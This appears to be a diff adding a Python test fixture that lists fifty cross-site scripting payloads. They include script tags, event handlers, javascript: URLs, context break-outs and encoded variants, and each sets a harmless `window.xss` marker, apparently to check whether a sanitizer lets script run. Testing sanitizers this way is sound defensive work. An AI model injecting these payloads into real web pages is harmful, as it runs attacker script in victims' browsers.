@@ -1,0 +1,61 @@
+"""Fifty texts that run a script in a page that takes them for markup, script, style or an address. Each would set `window.xss`."""
+
+_RUN = "window.xss=1"
+_MARKUP = (
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT>{_RUN}</SCRIPT>",
+    f"<script >{_RUN}</script >",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src=x onerror='{_RUN}'>",
+    f'<img src="x" onerror="{_RUN}">',
+    f"<img/src/onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<body onload={_RUN}>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
+    f"<iframe src='javascript:parent.{_RUN}'>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<object data='javascript:{_RUN}'></object>",
+    f"<embed src='javascript:{_RUN}'>",
+    f"<math><mtext></mtext><script>{_RUN}</script></math>",
+    f"<style onload={_RUN}></style>",
+    f"<link rel=stylesheet href=x onerror={_RUN}>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    f"<base href='javascript:{_RUN}//'>",
+    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
+    f"<a href='javascript:{_RUN}'>x</a>",
+    f"<template><script>{_RUN}</script></template>",
+)
+_BREAKING_OUT = (
+    f"</script><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"</style><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script>",
+    f"]]><script>{_RUN}</script>",
+    f'"><script>{_RUN}</script>',
+    f"'><script>{_RUN}</script>",
+    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
+    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
+    f"x onfocus={_RUN} autofocus",
+    f"`><img src=x onerror={_RUN}>",
+)
+_OTHER = (
+    f"javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
+    f"${{{_RUN}}}",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
+)
+PAYLOADS = (*_MARKUP, *_BREAKING_OUT, *_OTHER)
+assert len(PAYLOADS) == 50
